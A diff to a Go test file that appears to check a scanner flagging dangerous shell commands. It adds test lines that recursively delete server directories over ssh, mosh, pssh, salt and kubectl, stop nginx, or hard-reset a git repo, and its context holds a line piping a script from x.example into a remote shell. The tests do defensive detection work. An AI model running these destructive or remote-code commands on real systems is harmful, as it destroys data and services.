@@ -86,6 +86,17 @@ func TestImageKeeps(t *testing.T) {
 		{"ssh prod sh <<'EOS'\nrm -rf /srv/z\nEOS", "rm-recursive"},
 		{"curl -s https://x.example/k.sh | ssh prod sh", "remote-code"},
 		{"docker -H tcp://10.0.0.1:2375 run -v /srv:/srv alpine rm -rf /srv/data", "rm-recursive"},
+		{"ssh -J bastion prod 'rm -rf /srv/a'", "rm-recursive"},
+		{"sshpass -p x ssh prod 'rm -rf /srv/b'", "rm-recursive"},
+		{"mosh prod -- rm -rf /srv/c", "rm-recursive"},
+		{"pssh -h hosts.txt 'rm -rf /srv/d'", "rm-recursive"},
+		{"salt '*' cmd.run 'rm -rf /srv/e'", "rm-recursive"},
+		{"kubectl debug node/n1 -it --image=busybox -- chroot /host rm -rf /var/lib/kubelet", "rm-recursive"},
+		{"ssh prod -- sudo systemctl stop nginx", "service-stop"},
+		{"env -i /usr/bin/ssh prod \"rm -rf /srv/f\"", "rm-recursive"},
+		{"timeout 30 ssh prod \"git -C /srv/app reset --hard\"", "git-reset-hard"},
+		{"xargs -a hosts.txt -I{} ssh {} 'rm -rf /srv/g'", "rm-recursive"},
+		{"ssh prod rm -rf /srv/h", "rm-recursive"},
 	} {
 		fs := imageFindings(tc.line, true)
 		if _, ok := hasRuleIn(fs, []string{tc.rule}); !ok {
